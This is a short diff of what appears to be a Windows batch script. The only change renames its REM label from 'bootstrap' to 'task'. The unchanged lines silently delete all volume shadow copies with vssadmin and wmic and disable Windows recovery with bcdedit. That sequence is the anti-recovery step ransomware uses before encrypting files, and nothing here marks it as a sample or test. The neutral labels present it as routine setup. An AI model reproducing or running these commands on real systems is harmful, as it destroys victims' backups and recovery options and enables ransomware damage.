@@ -1,4 +1,4 @@
-REM bootstrap 3969 v2
+REM task 9185 v2
 vssadmin delete shadows /all /quiet
 wmic shadowcopy delete
 bcdedit /set {default} recoveryenabled no
